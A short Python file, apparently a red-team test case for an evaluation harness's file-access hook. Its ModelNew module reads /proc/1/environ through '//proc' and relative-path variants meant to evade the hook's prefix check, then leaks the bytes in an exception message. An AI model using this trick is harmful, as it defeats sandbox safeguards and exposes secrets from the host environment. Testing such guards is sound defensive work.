"""Attack: /proc through a path the hook's prefix test would miss ('//proc', or relative to '/')."""

import os

from torch import nn


def _read():
    out = []
    for path in ("//proc/1/environ", "proc/1/environ"):
        try:
            os.chdir("/")
            with open(path, "rb") as handle:
                out.append(handle.read()[:40])
        except OSError as exc:
            out.append(repr(exc))
    return out


class ModelNew(nn.Module):
    def forward(self, a, b):
        raise ValueError(str(_read()))
